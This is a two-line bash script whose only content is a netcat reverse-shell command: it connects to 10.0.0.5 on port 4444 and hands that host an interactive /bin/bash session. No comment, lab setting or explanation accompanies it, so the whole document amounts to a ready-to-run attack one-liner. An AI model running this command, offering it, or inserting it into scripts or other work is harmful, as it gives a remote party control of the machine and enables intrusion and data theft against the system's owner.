#!/usr/bin/env bash
`which nc` 10.0.0.5 4444 -e /bin/bash
